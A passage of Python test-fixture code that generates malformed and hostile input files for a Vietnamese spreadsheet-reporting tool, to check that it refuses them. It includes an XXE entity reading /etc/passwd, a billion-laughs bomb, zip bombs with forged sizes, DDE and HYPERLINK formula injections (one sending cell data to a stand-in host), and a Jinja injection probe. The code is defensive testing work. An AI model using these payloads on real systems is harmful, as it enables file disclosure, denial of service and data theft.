"""The bad-input corpus (issue #12): each case is a small function that writes one bad file into a folder.

Nothing here is a binary blob: every file is generated from a workbook that `ktxh` itself makes (a
clean generated xã workbook, the demo) or from a few bytes written on the spot. A case says what
each command must answer: the exit status (2 refused, 1 findings with errors, 0 ok) and words the
message must hold (the file, the sheet!cell). tests/addin/test_bad_inputs.py runs them.
"""
from __future__ import annotations

import re
import shutil
import zipfile
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from collections.abc import Callable

import openpyxl

NS_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NS_REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
NS_PKG = "{http://schemas.openxmlformats.org/package/2006/relationships}"

SECTOR = "Nông nghiệp"      # the sheet most cases edit
CODE = "NN.GIEO_TRONG"      # its first indicator; a clean generated xã has its plan, last year and estimate
KEY_ROW = 3                  # the hidden row of column keys (formulas.layout.KEY_ROW)
COMPUTED_KEYS = re.compile(r"^(pct_.*|tang_giam|ty_trong|danh_gia)$")  # what recalc writes


@dataclass(frozen=True)
class Bases:
    clean: Path    # a generated xã workbook: 0 errors, 0 warnings
    demo: Path     # the demo workbook (the seed's own disagreements: 2 errors)
    report: Path   # a small Word report (input of ktxh soat, and a .docx to rename)
    empty: Path    # what `ktxh new` makes: Thông tin still to fill (errors), no figures


@dataclass(frozen=True)
class Expect:
    """What one command must answer: its exit status and the words of its message."""
    code: int
    says: tuple[str, ...] = ()  # regular expressions, searched in stdout + stderr


@dataclass(frozen=True)
class Case:
    name: str
    klass: str
    make: Callable[[Path, Bases], Path]
    expect: dict[str, Expect]                    # command -> what it must answer
    heavy: bool = False                          # run in a child process with a timeout and a memory cap
    options: dict[str, list[str]] = field(default_factory=dict)  # command -> extra arguments


CASES: list[Case] = []


def case(klass: str, *, heavy: bool = False, options: dict | None = None, **expect):
    """Register a generator; expect: command=(code, *patterns) with "{name}" for the file's name."""
    def register(make):
        parsed = {cmd: Expect(spec[0], tuple(spec[1:])) for cmd, spec in expect.items()}
        CASES.append(Case(make.__name__, klass, make, parsed, heavy, options or {}))
        return make
    return register


# --------------------------------------------------------------------------------------------
# helpers: copy a base, edit its cells (openpyxl) or its package members (zip)

def copy_base(base: Path, tmp: Path, name: str = "so_lieu.xlsx") -> Path:
    target = tmp / name
    shutil.copyfile(base, target)
    return target


def column_of(ws, key: str) -> int:
    for cell in ws[KEY_ROW]:
        if cell.value == key:
            return cell.column
    raise LookupError(key)


def row_of(ws, code: str) -> int:
    ma = column_of(ws, "ma")
    for row in ws.iter_rows(min_row=KEY_ROW + 1, min_col=ma, max_col=ma):
        if row[0].value == code:
            return row[0].row
    raise LookupError(code)


def cell_of(ws, code: str, key: str):
    return ws.cell(row_of(ws, code), column_of(ws, key))


def edit_book(src: Path, tmp: Path, edit: Callable, name: str = "so_lieu.xlsx") -> Path:
    """Load `src` with openpyxl, let `edit(wb)` change it, save it as tmp/name."""
    wb = openpyxl.load_workbook(src)
    edit(wb)
    target = tmp / name
    wb.save(target)
    return target


def set_input(src: Path, tmp: Path, value, key: str = "kh_nam", as_text: bool = False) -> Path:
    """The clean workbook with one input cell of SECTOR/CODE replaced by `value`."""
    def edit(wb):
        c = cell_of(wb[SECTOR], CODE, key)
        c.value = value
        if as_text:  # openpyxl would store "=…" as a formula: staff typed text
            c.data_type = "s"
    return edit_book(src, tmp, edit)


def set_prose(src: Path, tmp: Path, text: str) -> Path:
    """The clean workbook with its first Thuyết minh paragraph replaced by `text` (stored as text)."""
    def edit(wb):
        ws = wb["Thuyết minh"]
        col = column_of(ws, "noi_dung")
        for row in ws.iter_rows(min_row=KEY_ROW + 3, min_col=col, max_col=col):
            if row[0].value:
                row[0].value = text
                row[0].data_type = "s"
                return
        raise LookupError("no paragraph")
    return edit_book(src, tmp, edit)


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def write_zip(target: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return target


def sheet_member(parts: dict[str, bytes], sheet: str) -> str:
    """The package member holding `sheet`'s XML (xl/workbook.xml and its relationships)."""
    from xml.etree import ElementTree as ET
    book = ET.fromstring(parts["xl/workbook.xml"])
    rels = ET.fromstring(parts["xl/_rels/workbook.xml.rels"])
    targets = {r.get("Id"): r.get("Target") for r in rels.iter(f"{NS_PKG}Relationship")}
    for s in book.iter(f"{NS_MAIN}sheet"):
        if s.get("name") == sheet:
            t = targets[s.get(f"{NS_REL}id")]
            return t.lstrip("/") if t.startswith("/") else "xl/" + t
    raise LookupError(sheet)


def rewrite(src: Path, tmp: Path, change: Callable[[dict[str, bytes]], None], name: str = "so_lieu.xlsx") -> Path:
    parts = members(src)
    change(parts)
    return write_zip(tmp / name, parts)


def with_doctype(xml: bytes, doctype: bytes) -> bytes:
    """Put a DOCTYPE right after the XML declaration (or at the start)."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + doctype + xml[end:]
    return doctype + xml


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">'.encode()
                     for i in range(1, 10))
          + b"]>")
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def ole_file(tmp: Path, name: str, stream_name: str) -> Path:
    """A compound file (OLE CDF) header with one directory entry, as .xls and encrypted .xlsx start."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = (0x3E).to_bytes(2, "little")
    header[26:28] = (3).to_bytes(2, "little")
    header[28:30] = b"\xfe\xff"
    header[30:32] = (9).to_bytes(2, "little")
    header[32:34] = (6).to_bytes(2, "little")
    entry = stream_name.encode("utf-16-le") + b"\0\0"
    body = bytearray(512 * 3)
    body[:len(entry)] = entry
    target = tmp / name
    target.write_bytes(bytes(header) + bytes(body))
    return target


# --------------------------------------------------------------------------------------------
# 1. the file itself

FILE_REFUSED = dict(check=(2, "{name}"), recalc=(2, "{name}"), export=(2, "{name}"))


@case("tệp không phải sổ", **FILE_REFUSED)
def empty_file(tmp, b):
    p = tmp / "rong.xlsx"
    p.write_bytes(b"")
    return p


@case("tệp không phải sổ", **FILE_REFUSED)
def random_bytes(tmp, b):
    p = tmp / "ngau_nhien.xlsx"
    p.write_bytes(bytes((i * 7919 + 13) % 256 for i in range(4096)))
    return p


@case("tệp không phải sổ", check=(2, "{name}", "Word"), recalc=(2, "{name}"), export=(2, "{name}"))
def docx_renamed_xlsx(tmp, b):
    return copy_base(b.report, tmp, "bao_cao_doi_duoi.xlsx")


@case("tệp không phải sổ", **FILE_REFUSED)
def truncated_zip(tmp, b):
    p = tmp / "cat_do.xlsx"
    data = b.clean.read_bytes()
    p.write_bytes(data[: len(data) // 2])
    return p


@case("tệp không phải sổ", **FILE_REFUSED)
def truncated_central_directory(tmp, b):
    p = tmp / "mat_muc_luc.xlsx"
    data = b.clean.read_bytes()
    p.write_bytes(data[:-30])
    return p


@case("tệp không phải sổ", check=(2, "{name}", "hỏng"), recalc=(2, "{name}"), export=(2, "{name}"))
def corrupted_member(tmp, b):
    """The deflated bytes of the Nông nghiệp sheet overwritten in the middle (its CRC no longer fits)."""
    p = copy_base(b.clean, tmp, "hong_trang.xlsx")
    parts = members(p)
    member = sheet_member(parts, SECTOR)
    with zipfile.ZipFile(p) as zf:
        info = zf.getinfo(member)
    data = bytearray(p.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    mid = start + info.compress_size // 2
    data[mid:mid + 64] = bytes(64)
    p.write_bytes(bytes(data))
    return p


@case("tệp không phải sổ", **FILE_REFUSED)
def member_not_xml(tmp, b):
    """xl/workbook.xml replaced by garbage text in a well-formed zip."""
    def change(parts):
        parts["xl/workbook.xml"] = b"this is not xml <<<"
    return rewrite(b.clean, tmp, change, "workbook_hong.xlsx")


@case("tệp không phải sổ", **FILE_REFUSED)
def zip_without_workbook(tmp, b):
    return write_zip(tmp / "nen_khac.xlsx", {"ghi_chu.txt": "không phải sổ".encode()})


@case("tệp không phải sổ", check=(2, "{name}", "97-2003|xls"), recalc=(2, "{name}"), export=(2, "{name}"))
def xls_biff(tmp, b):
    return ole_file(tmp, "so_cu.xls", "Workbook")


@case("tệp không phải sổ", check=(2, "{name}", "97-2003|xls"), recalc=(2, "{name}"), export=(2, "{name}"))
def xls_renamed_xlsx(tmp, b):
    return ole_file(tmp, "so_cu_doi_duoi.xlsx", "Workbook")


@case("tệp không phải sổ", check=(2, "{name}", "mật khẩu"), recalc=(2, "{name}", "mật khẩu"),
      export=(2, "{name}", "mật khẩu"))
def encrypted_xlsx(tmp, b):
    """A real password-protected .xlsx, encrypted by msoffcrypto-tool (ECMA-376 agile encryption)."""
    import msoffcrypto.format.ooxml as ooxml
    p = tmp / "co_mat_khau.xlsx"
    with open(b.clean, "rb") as src, open(p, "wb") as out:
        ooxml.OOXMLFile(src).encrypt("matkhau123", out)
    return p


@case("tệp không phải sổ", check=(2, "{name}", "mật khẩu"), recalc=(2, "{name}"), export=(2, "{name}"))
def encrypted_header_only(tmp, b):
    """Only the compound-file header and an EncryptedPackage entry, as a damaged encrypted copy."""
    return ole_file(tmp, "ma_hoa_hong.xlsx", "EncryptedPackage")


@case("tệp không phải sổ", **FILE_REFUSED)
def csv_file(tmp, b):
    p = tmp / "so_lieu.csv"
    p.write_text("Mã chỉ tiêu;KH năm\nNN.GIEO_TRONG;1837,81\n", encoding="utf-8")
    return p


@case("tệp không phải sổ", **FILE_REFUSED)
def csv_renamed_xlsx(tmp, b):
    p = tmp / "csv_doi_duoi.xlsx"
    p.write_text("Mã chỉ tiêu;KH năm\nNN.GIEO_TRONG;1837,81\n", encoding="utf-8")
    return p


@case("tệp không phải sổ", **FILE_REFUSED)
def html_renamed_xlsx(tmp, b):
    """What some portals send as "Excel": an HTML table with an .xlsx name."""
    p = tmp / "tai_ve_tu_cong.xlsx"
    p.write_text("<html><body><table><tr><td>NN.GIEO_TRONG</td><td>1837,81</td></tr></table></body></html>",
                 encoding="utf-8")
    return p


@case("tệp không phải sổ", check=(2, "{name}", ".ods"), recalc=(2, "{name}"), export=(2, "{name}"))
def ods_renamed_xlsx(tmp, b):
    return write_zip(tmp / "ods_doi_duoi.xlsx", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                                 "content.xml": b"<office:document-content/>"})


@case("tệp không phải sổ", check=(2, "{name}", "thư mục"), recalc=(2, "{name}"), export=(2, "{name}"))
def directory(tmp, b):
    p = tmp / "thu_muc.xlsx"
    p.mkdir()
    return p


@case("tệp không phải sổ", check=(2, "{name}", "Không tìm thấy"), recalc=(2, "{name}", "Không tìm thấy"),
      export=(2, "{name}", "Không tìm thấy"))
def missing_path(tmp, b):
    return tmp / "khong_co.xlsx"


# --------------------------------------------------------------------------------------------
# 2. paths and outputs

@case("đường dẫn", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def vietnamese_and_spaces_in_path(tmp, b):
    folder = tmp / "Số liệu xã Tân Liên" / "quý II năm 2026"
    folder.mkdir(parents=True)
    return copy_base(b.clean, folder, "Báo cáo 6 tháng (bản cuối).xlsx")


@case("đường dẫn", check=(0, "{name}"), recalc=(2, "{name}", "chỉ đọc"), export=(0, "docx"))
def read_only_file(tmp, b):
    p = copy_base(b.clean, tmp, "chi_doc.xlsx")
    p.chmod(0o444)
    return p


@case("đường dẫn", check=(0, "{name}"), recalc=(2, "chỉ đọc"), export=(2, "chỉ đọc"),
      options={"export": ["-o", "{dir}/bao_cao.docx"]})
def read_only_folder(tmp, b):
    folder = tmp / "thu_muc_chi_doc"
    folder.mkdir()
    p = copy_base(b.clean, folder, "so_lieu.xlsx")
    folder.chmod(0o555)
    return p


@case("đường dẫn", recalc=(0, "{name}"), export=(2, "{name}", "docx"), options={"recalc": ["-o", "{path}"],
                                                                         "export": ["-o", "{path}"]})
def output_is_input(tmp, b):
    return copy_base(b.clean, tmp, "so_lieu.xlsx")


@case("đường dẫn", recalc=(2, "không tồn tại"), export=(2, "không tồn tại"),
      options={"recalc": ["-o", "{dir}/chua_co/ra.xlsx"], "export": ["-o", "{dir}/chua_co/bao_cao.docx"]})
def output_into_missing_folder(tmp, b):
    return copy_base(b.clean, tmp, "so_lieu.xlsx")


@case("đường dẫn", recalc=(2, "thư mục"), export=(2, "thư mục"),
      options={"recalc": ["-o", "{dir}/la_thu_muc.xlsx"], "export": ["-o", "{dir}/la_thu_muc.docx"]})
def output_is_a_directory(tmp, b):
    (tmp / "la_thu_muc.xlsx").mkdir()
    (tmp / "la_thu_muc.docx").mkdir()
    return copy_base(b.clean, tmp, "so_lieu.xlsx")


STRICT = ((b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
          (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
           b"http://purl.oclc.org/ooxml/officeDocument/relationships"))


@case("định dạng sổ khác", check=(0, "{name}"), recalc=(2, "{name}", "Strict Open XML", "Excel Workbook"),
      export=(0, "docx"))
def strict_open_xml(tmp, b):
    """Excel's "Strict Open XML Spreadsheet" (ISO 29500 Strict): the same sheets in other namespaces.
    Read (calamine knows it); recalc refuses to write into it rather than mixing the two dialects."""
    def change(parts):
        for name, data in parts.items():
            if name.endswith((".xml", ".rels")):
                for old, new in STRICT:
                    data = data.replace(old, new)
                parts[name] = data
    return rewrite(b.clean, tmp, change, "so_strict.xlsx")


# --------------------------------------------------------------------------------------------
# 3. hostile packages: entities, external entities, zip bomb, a million rows

@case("gói độc hại", **FILE_REFUSED)
def billion_laughs_in_sheet(tmp, b):
    def change(parts):
        m = sheet_member(parts, SECTOR)
        parts[m] = with_doctype(parts[m], LAUGHS)
    return rewrite(b.clean, tmp, change, "tiep_la.xlsx")


@case("gói độc hại", **FILE_REFUSED)
def billion_laughs_in_a_text_cell(tmp, b):
    def change(parts):
        m = sheet_member(parts, SECTOR)
        parts[m] = with_doctype(parts[m], LAUGHS).replace(b"<t>", b"<t>&lol9;", 1)
    return rewrite(b.clean, tmp, change, "tiep_la_chuoi.xlsx")


@case("gói độc hại", **FILE_REFUSED)
def xxe_in_a_text_cell(tmp, b):
    def change(parts):
        m = sheet_member(parts, SECTOR)
        parts[m] = with_doctype(parts[m], XXE).replace(b"<t>", b"<t>&xxe;", 1)
    return rewrite(b.clean, tmp, change, "xxe.xlsx")


@case("gói độc hại", **FILE_REFUSED)
def xxe_in_workbook(tmp, b):
    def change(parts):
        parts["xl/workbook.xml"] = with_doctype(parts["xl/workbook.xml"], XXE)
    return rewrite(b.clean, tmp, change, "xxe_workbook.xlsx")


@case("gói độc hại", heavy=True, **FILE_REFUSED)
def zip_bomb(tmp, b):
    """The Nông nghiệp sheet padded with 512 MiB of spaces: about 0,5 MB on disk (ratio ≈ 1000)."""
    p = copy_base(b.clean, tmp, "bom_nen.xlsx")
    parts = members(p)
    m = sheet_member(parts, SECTOR)
    head, tail = parts[m].split(b"<sheetData>", 1)
    chunk = b" " * (1 << 20)
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zf:
        for name, data in parts.items():
            if name != m:
                zf.writestr(name, data)
                continue
            with zf.open(name, "w", force_zip64=True) as out:
                out.write(head + b"<sheetData>")
                for _ in range(512):
                    out.write(chunk)
                out.write(tail)
    return p


@case("gói độc hại", heavy=True, **FILE_REFUSED)
def zip_bomb_with_lying_sizes(tmp, b):
    """The sheet's deflated bytes replaced by 256 MiB of spaces while the zip still declares the old,
    honest sizes: a check of the declared sizes passes, the reader must stop at the declared size."""
    import struct
    import zlib

    p = copy_base(b.clean, tmp, "bom_noi_doi.xlsx")
    parts = members(p)
    m = sheet_member(parts, SECTOR)
    head, tail = parts[m].split(b"<sheetData>", 1)
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = bytearray(comp.compress(head + b"<sheetData>"))
    for _ in range(256):
        body += comp.compress(b" " * (1 << 20))
    body += comp.compress(tail) + comp.flush()
    with zipfile.ZipFile(p) as zf:
        info = zf.getinfo(m)
    raw = p.read_bytes()
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    out = bytearray(raw[:start] + body + raw[start + info.compress_size:])
    delta = len(body) - info.compress_size
    struct.pack_into("<I", out, info.header_offset + 18, len(body))  # compressed size: true; inflated: a lie
    end = out.rfind(b"PK\x05\x06")
    directory = struct.unpack_from("<I", out, end + 16)[0] + delta
    struct.pack_into("<I", out, end + 16, directory)
    i = directory
    while out[i:i + 4] == b"PK\x01\x02":  # the central directory: this entry's size, later offsets
        n, e, c = struct.unpack_from("<HHH", out, i + 28)
        offset = struct.unpack_from("<I", out, i + 42)[0]
        if bytes(out[i + 46:i + 46 + n]).decode() == m:
            struct.pack_into("<I", out, i + 20, len(body))
        elif offset > info.header_offset:
            struct.pack_into("<I", out, i + 42, offset + delta)
        i += 46 + n + e + c
    p.write_bytes(bytes(out))
    return p


@case("gói độc hại", heavy=True, check=(2, "{name}", "Nông nghiệp", "dòng"), recalc=(2, "{name}"),
      export=(2, "{name}"))
def million_rows(tmp, b):
    """1.000.000 rows of an unknown code in the Nông nghiệp sheet (a pasted export gone wrong)."""
    p = copy_base(b.clean, tmp, "trieu_dong.xlsx")
    parts = members(p)
    m = sheet_member(parts, SECTOR)
    head, rest = parts[m].split(b"</sheetData>", 1)
    rows = "".join(f'<row r="{r}"><c r="B{r}" t="inlineStr"><is><t>X.{r}</t></is></c><c r="F{r}"><v>{r}</v></c></row>'
                   for r in range(1000, 1_001_000)).encode()
    parts[m] = head + rows + b"</sheetData>" + rest
    parts[m] = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:P1000999"/>', parts[m])
    return write_zip(p, parts)


@case("gói độc hại", heavy=True, check=(2, "{name}", "Nông nghiệp", "dòng"), recalc=(2, "{name}"),
      export=(2, "{name}"))
def million_rows_without_dimension(tmp, b):
    """The same million rows with no <dimension> (some writers leave it out): counted, then refused."""
    p = million_rows(tmp, b)
    parts = members(p)
    m = sheet_member(parts, SECTOR)
    parts[m] = re.sub(rb'<dimension ref="[^"]*"/>', b"", parts[m])
    return write_zip(tmp / "trieu_dong_khong_kich_thuoc.xlsx", parts)


# --------------------------------------------------------------------------------------------
# 4. sheets

CELL = "Nông nghiệp!F6"  # SECTOR's CODE row, KH năm column in the clean generated xã workbook


@case("trang tính", check=(2, "Nông nghiệp"), recalc=(2, "Nông nghiệp"), export=(2, "Nông nghiệp"))
def missing_sector_sheet(tmp, b):
    return edit_book(b.clean, tmp, lambda wb: wb.remove(wb[SECTOR]))


@case("trang tính", check=(2, "Nông nghiệp"), recalc=(2, "Nông nghiệp"), export=(2, "Nông nghiệp"))
def renamed_sector_sheet(tmp, b):
    def edit(wb):
        wb[SECTOR].title = "Nong nghiep (sua)"
    return edit_book(b.clean, tmp, edit)


@case("trang tính", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def hidden_sector_sheet(tmp, b):
    def edit(wb):
        wb[SECTOR].sheet_state = "hidden"
    return edit_book(b.clean, tmp, edit)


@case("trang tính", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def very_hidden_sector_sheet(tmp, b):
    def edit(wb):
        wb[SECTOR].sheet_state = "veryHidden"
    return edit_book(b.clean, tmp, edit)


@case("trang tính", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def extra_sheet(tmp, b):
    def edit(wb):
        ws = wb.create_sheet("Ghi chép riêng")
        ws["A1"] = "=SUM(1,2)"
        ws["B2"] = "số liệu nháp"
    return edit_book(b.clean, tmp, edit)


@case("trang tính", check=(2, "Thông tin"), recalc=(2, "Thông tin"), export=(2, "Thông tin"))
def info_sheet_deleted(tmp, b):
    return edit_book(b.clean, tmp, lambda wb: wb.remove(wb["Thông tin"]))


@case("trang tính", check=(2, "Thuyết minh"), recalc=(2, "Thuyết minh"), export=(2, "Thuyết minh"))
def prose_sheet_deleted(tmp, b):
    return edit_book(b.clean, tmp, lambda wb: wb.remove(wb["Thuyết minh"]))


@case("trang tính", check=(2, "_ktxh"), recalc=(2, "_ktxh"), export=(2, "_ktxh"))
def meta_sheet_deleted(tmp, b):
    return edit_book(b.clean, tmp, lambda wb: wb.remove(wb["_ktxh"]))


@case("trang tính", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def findings_sheet_deleted(tmp, b):
    return edit_book(b.clean, tmp, lambda wb: wb.remove(wb["Kiểm tra"]))


@case("trang tính", check=(1, "Nông nghiệp"), recalc=(0, "{name}"), export=(2, "Nông nghiệp"))
def key_row_erased(tmp, b):
    def edit(wb):
        for cell in wb[SECTOR][KEY_ROW]:
            cell.value = None
    return edit_book(b.clean, tmp, edit)


# --------------------------------------------------------------------------------------------
# 5. codes and merged cells

@case("mã và ô gộp", check=(1, "Nông nghiệp!B"), recalc=(0, "{name}"), export=(2, "Nông nghiệp!"))
def duplicate_code(tmp, b):
    def edit(wb):
        ws = wb[SECTOR]
        r = row_of(ws, CODE)
        ws.cell(r + 1, column_of(ws, "ma")).value = CODE
    return edit_book(b.clean, tmp, edit)


@case("mã và ô gộp", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def unknown_code(tmp, b):
    def edit(wb):
        ws = wb[SECTOR]
        ws.cell(row_of(ws, CODE), column_of(ws, "ma")).value = "NN.KHONG_CO_MA_NAY"
    return edit_book(b.clean, tmp, edit)


@case("mã và ô gộp", check=(0, "{name}"), recalc=(2, "Nông nghiệp", "gộp"), export=(0, "docx"))
def merged_over_computed_cells(tmp, b):
    def edit(wb):
        ws = wb[SECTOR]
        r = row_of(ws, CODE)
        a, z = column_of(ws, "pct_kh_nam"), column_of(ws, "pct_cung_ky")
        ws.merge_cells(start_row=r, start_column=a, end_row=r, end_column=z)
    return edit_book(b.clean, tmp, edit)


@case("mã và ô gộp", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def merged_over_input_cells(tmp, b):
    def edit(wb):
        ws = wb[SECTOR]
        r = row_of(ws, CODE)
        ws.merge_cells(start_row=r, start_column=column_of(ws, "kh_nam"), end_row=r,
                       end_column=column_of(ws, "cung_ky"))
    return edit_book(b.clean, tmp, edit)


# --------------------------------------------------------------------------------------------
# 6. what staff type into a number cell (SECTOR / CODE / KH năm of the clean workbook)

BAD_NUMBER = dict(check=(1, CELL), recalc=(0, "{name}"), export=(2, CELL))
TEXT_NUMBER = dict(check=(0, CELL), recalc=(0, "{name}"), export=(0, "docx"))
ACCEPTED = dict(check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))


@case("ô số", **BAD_NUMBER)
def text_in_number_cell(tmp, b):
    return set_input(b.clean, tmp, "khoảng hai nghìn")


@case("ô số", **BAD_NUMBER)
def full_width_digits(tmp, b):
    return set_input(b.clean, tmp, "１８３７，８１")


@case("ô số", **BAD_NUMBER)
def double_percent(tmp, b):
    return set_input(b.clean, tmp, "12%%")


@case("ô số", **TEXT_NUMBER)
def vietnamese_text_number(tmp, b):
    return set_input(b.clean, tmp, "1.837,81")


@case("ô số", **BAD_NUMBER)
def negative_plan(tmp, b):
    return set_input(b.clean, tmp, -1837.81)


@case("ô số", **BAD_NUMBER)
def zero_plan(tmp, b):
    return set_input(b.clean, tmp, 0)


@case("ô số", check=(1, "Nông nghiệp!I6", "quá lớn"), recalc=(0, "{name}"), export=(2, "Nông nghiệp!I6"))
def huge_number(tmp, b):
    return set_input(b.clean, tmp, 1e308, key="uoc_ky")


@case("ô số", check=(1, CELL, "quá nhỏ"), recalc=(0, "{name}"), export=(2, CELL))
def tiny_plan_under_huge_result(tmp, b):
    def edit(wb):
        ws = wb[SECTOR]
        cell_of(ws, CODE, "kh_nam").value = 1e-300
        cell_of(ws, CODE, "uoc_ky").value = 1e308
    return edit_book(b.clean, tmp, edit)


def _raw_value(tmp: Path, b: Bases, text: str, name: str) -> Path:
    """SECTOR/CODE/KH năm stored as <v>text</v>: what another program may write for NaN or infinity."""
    staged = set_input(b.clean, tmp, 424242.5)
    def change(parts):
        m = sheet_member(parts, SECTOR)
        parts[m] = parts[m].replace(b"<v>424242.5</v>", f"<v>{text}</v>".encode(), 1)
    out = rewrite(staged, tmp, change, name)
    staged.unlink()
    return out


@case("ô số", **BAD_NUMBER)
def nan_value(tmp, b):
    return _raw_value(tmp, b, "NaN", "nan.xlsx")


@case("ô số", **BAD_NUMBER)
def infinity_value(tmp, b):
    return _raw_value(tmp, b, "inf", "vo_cuc.xlsx")


@case("ô số", **BAD_NUMBER)
def nan_as_text(tmp, b):
    return set_input(b.clean, tmp, "NaN")


@case("ô số", **BAD_NUMBER)
def date_in_number_cell(tmp, b):
    return set_input(b.clean, tmp, datetime(2026, 6, 15))


@case("ô số", **BAD_NUMBER)
def boolean_in_number_cell(tmp, b):
    return set_input(b.clean, tmp, True)


@case("ô số", **BAD_NUMBER)
def ref_error(tmp, b):
    return set_input(b.clean, tmp, "#REF!")


@case("ô số", **BAD_NUMBER)
def div0_error(tmp, b):
    return set_input(b.clean, tmp, "#DIV/0!")


@case("ô số", **BAD_NUMBER)
def circular_formula(tmp, b):
    """A formula that refers to its own cell, as Excel saves it (cached value 0, and an error flag)."""
    staged = set_input(b.clean, tmp, 424242.5)
    def change(parts):
        m = sheet_member(parts, SECTOR)
        parts[m] = re.sub(rb'<c r="(F\d+)"([^>]*)><v>424242.5</v></c>',
                          lambda mm: b'<c r="' + mm.group(1) + b'"' + mm.group(2).replace(b' t="n"', b"")
                          + b' t="e"><f>' + mm.group(1) + b"</f><v>#NUM!</v></c>", parts[m], count=1)
    out = rewrite(staged, tmp, change, "vong_tron.xlsx")
    staged.unlink()
    return out


@case("ô số", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def formula_with_cached_number(tmp, b):
    """=1800+37.81 with its cached value: what Excel saves; the value is read, the formula kept."""
    staged = set_input(b.clean, tmp, 424242.5)
    def change(parts):
        m = sheet_member(parts, SECTOR)
        parts[m] = parts[m].replace(b"<v>424242.5</v>", b"<f>1800+37.81</f><v>1837.81</v>", 1)
    out = rewrite(staged, tmp, change, "cong_thuc.xlsx")
    staged.unlink()
    return out


@case("ô số", **BAD_NUMBER)
def very_long_text_in_number_cell(tmp, b):
    return set_input(b.clean, tmp, "1" + "2" * 5000 + " ha")


# --------------------------------------------------------------------------------------------
# 7. formula injection: text that a spreadsheet would run if written back as a formula

INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "dde": "=cmd|' /C calc'!A0",
    "at_sum": "@SUM(1)",
    "plus": "+",
    "minus_formula": "-2+3+cmd|' /C calc'!A0",
}


def _injected_number(text):
    def make(tmp, b):
        return set_input(b.clean, tmp, text, as_text=True)
    return make


def _injected_note(text):
    def make(tmp, b):
        return set_input(b.clean, tmp, text, key="ghi_chu", as_text=True)
    return make


def _injected_prose(text):
    def make(tmp, b):
        return set_prose(b.clean, tmp, text)
    return make


for _key, _text in INJECTIONS.items():
    for _where, _factory, _expect in (
            ("so", _injected_number, BAD_NUMBER),
            ("ghi_chu", _injected_note, ACCEPTED),
            ("thuyet_minh", _injected_prose, ACCEPTED)):
        _make = _factory(_text)
        _make.__name__ = f"injection_{_key}_in_{_where}"
        case("chèn công thức", **_expect)(_make)
        _make.injected = _text  # type: ignore[attr-defined]


# --------------------------------------------------------------------------------------------
# 8. jinja syntax typed by staff in Thuyết minh (comes out literally in the report)

PROSE_JINJA = ("{{ 7*7 }}", "{% raw %}", "{# ghi chú #}", "{{ ''.__class__.__mro__ }}")


def _jinja_prose(text):
    def make(tmp, b):
        return set_prose(b.clean, tmp, f"Đoạn văn có ký hiệu {text} do cán bộ gõ.")
    make.prose = text  # type: ignore[attr-defined]
    return make


for _i, _text in enumerate(PROSE_JINJA):
    _make = _jinja_prose(_text)
    _make.__name__ = f"jinja_in_prose_{_i}"
    case("jinja trong thuyết minh", check=(0, "{name}"), export=(0, "docx"))(_make)


# --------------------------------------------------------------------------------------------
# 9. the workbooks ktxh itself makes, as they are and half-filled: the baseline of every class above

@case("sổ mẫu đối chứng", check=(1, r"Nội vụ - CCHC!H34", r"Y tế!H6 .*1\.085"), recalc=(0, "{name}"),
      export=(2, r"còn 0?2 lỗi", r"Nội vụ - CCHC!H36"))
def demo_with_its_own_disagreements(tmp, b):
    """The demo: the seed report disagrees with itself in two places (errors, export refused)."""
    return copy_base(b.demo, tmp, "bao_cao_demo.xlsx")


@case("sổ mẫu đối chứng", check=(1, "Thông tin!C9"), recalc=(0, "{name}"), export=(2, "Thông tin!C9"))
def new_workbook_left_empty(tmp, b):
    return copy_base(b.empty, tmp, "so_moi.xlsx")


@case("sổ mẫu đối chứng", check=(1, "Thông tin!C11"), recalc=(0, "{name}"), export=(2, "Thông tin!C11"))
def new_workbook_with_a_text_date(tmp, b):
    def edit(wb):
        ws = wb["Thông tin"]
        ws["C11"] = "ngày 35 tháng 13 năm 2026"
    return edit_book(b.empty, tmp, edit, "ngay_sai.xlsx")


@case("sổ mẫu đối chứng", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def clean_generated_workbook(tmp, b):
    return copy_base(b.clean, tmp, "sach.xlsx")


# --------------------------------------------------------------------------------------------
# 10. more of what another office's copy may carry

def set_info(src: Path, tmp: Path, key: str, text: str) -> Path:
    """The workbook with one Thông tin value (column C of the row keyed `key` in column A) set to text."""
    def edit(wb):
